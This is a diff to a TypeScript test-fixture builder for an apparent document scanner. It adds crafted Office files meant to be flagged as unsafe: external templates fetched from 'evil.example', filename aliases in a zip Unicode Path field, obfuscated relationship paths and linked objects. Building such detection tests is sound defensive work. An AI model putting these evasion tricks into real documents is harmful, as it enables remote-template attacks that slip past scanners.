@@ -1,11 +1,19 @@
-import { docFile, encryptedPackage, passwordRecord, sheetRecord, xlsFile } from './oldOfficeFiles.ts';
+import {
+  docFile,
+  encryptedPackage,
+  linkedObject,
+  passwordRecord,
+  sheetRecord,
+  xlsFile,
+} from './oldOfficeFiles.ts';
 
-/** A file in a zip. `declaredSize`: a wrong size in its header. */
+/** A file in a zip. `declaredSize`: a wrong size in its header. `unicodePath`: another name, in an extra field of the directory. */
 export interface ZipPartInput {
   readonly name: string;
   readonly content: string | Uint8Array;
   readonly isStored?: boolean;
   readonly declaredSize?: number;
+  readonly unicodePath?: string;
 }
 
 const encoder = new TextEncoder();
@@ -17,7 +25,7 @@ export async function zipFile(parts: readonly ZipPartInput[]): Promise<Uint8Arra
   const body: Uint8Array[] = [];
   const directory: Uint8Array[] = [];
   let at = 0;
-  for (const { name, content, isStored = false, declaredSize } of parts) {
+  for (const { name, content, isStored = false, declaredSize, unicodePath } of parts) {
     const plain = bytesOf(content);
     const packed = isStored ? plain : await deflated(plain);
     const path = encoder.encode(name);
@@ -33,7 +41,13 @@ export async function zipFile(parts: readonly ZipPartInput[]): Promise<Uint8Arra
       [path.byteLength, 2],
     ]);
     const local = joined([littleEndian([[0x04034b50, 4]]), shared, littleEndian([[0, 2]]), path, packed]);
-    const trailer = littleEndian([...Array<[number, number]>(4).fill([0, 2]), [0, 4], [at, 4]]);
+    const extra = unicodePath === undefined ? new Uint8Array() : unicodePathField(path, unicodePath);
+    const trailer = littleEndian([
+      [extra.byteLength, 2],
+      ...Array<[number, number]>(3).fill([0, 2]),
+      [0, 4],
+      [at, 4],
+    ]);
     directory.push(
       joined([
         littleEndian([
@@ -43,6 +57,7 @@ export async function zipFile(parts: readonly ZipPartInput[]): Promise<Uint8Arra
         shared,
         trailer,
         path,
+        extra,
       ]),
     );
     body.push(local);
@@ -59,6 +74,18 @@ export async function zipFile(parts: readonly ZipPartInput[]): Promise<Uint8Arra
     [0, 2],
   ]);
   return joined([...body, index, end]);
+}
+
+/** The extra field with the Unicode Path of Info-ZIP: some programs prefer its name. */
+function unicodePathField(path: Uint8Array, name: string): Uint8Array {
+  const bytes = encoder.encode(name);
+  const head = littleEndian([
+    [0x7075, 2],
+    [5 + bytes.byteLength, 2],
+    [1, 1],
+    [crc32(path), 4],
+  ]);
+  return joined([head, bytes]);
 }
 
 async function deflated(plain: Uint8Array): Promise<Uint8Array> {
@@ -228,6 +255,8 @@ function officeFile(parts: readonly ZipPartInput[], extra: readonly ZipPartInput
 export function compoundFile(names: readonly string[], text = ''): Uint8Array {
   const header = new Uint8Array(512);
   header.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
+  // Sectors of 512 bytes.
+  header[30] = 9;
   const entries = ['Root Entry', ...names].map((name, index) => {
     const entry = new Uint8Array(128);
     const view = new DataView(entry.buffer);
@@ -296,6 +325,36 @@ export async function unsafeOfficeFiles(): Promise<
       content: await docxFile([{ name: 'word/embeddings/inner.docx', content: await docxFile([macros]) }]),
       why: 'macros',
     },
+    ...(await Promise.all(
+      [
+        relationships('word/_rels/settings.xml.rels', [
+          { type: 'attachedTemplate', target: 'https://evil.example/t.dotm', isExternal: true },
+        ]),
+        macros,
+        { name: 'word/embeddings/run.js', content: 'x' },
+      ].map(async (part) => ({
+        what: `a harmless second name of ${part.name}`,
+        name: 'letter.docx',
+        content: await docxFile([{ ...part, unicodePath: 'word/notes.xml' }]),
+        why: 'damaged',
+      })),
+    )),
+    ...(await Promise.all(
+      [
+        'word/_rels/settings.xml.rels.',
+        'word/_rels/settings.xml.%72els',
+        'word/_rels/settings.xml.rels/',
+      ].map(async (name) => ({
+        what: `an external template in ${name}`,
+        name: 'letter.docx',
+        content: await docxFile([
+          relationships(name, [
+            { type: 'attachedTemplate', target: 'https://evil.example/t.dotm', isExternal: true },
+          ]),
+        ]),
+        why: 'damaged',
+      })),
+    )),
     { what: 'macros', name: 'old.doc', content: compoundFile(['WordDocument', 'Macros']), why: 'macros' },
     {
       what: 'macros',
@@ -350,6 +409,19 @@ export async function unsafeOfficeFiles(): Promise<
       ]),
       why: 'another location',
     },
+    {
+      what: 'an external template that is called a hyperlink',
+      name: 'letter.docx',
+      content: await wordDocumentThatLoads('hyperlink', 'https://evil.example/t.dotm'),
+      why: 'another location',
+    },
+    {
+      what: 'a linked object',
+      name: 'letter.docx',
+      content: await oleObject(linkedObject()),
+      why: 'another location',
+    },
+    { what: 'a linked object', name: 'old.doc', content: linkedObject(), why: 'another location' },
     {
       what: 'a template on a server',
       name: 'letter.docx',
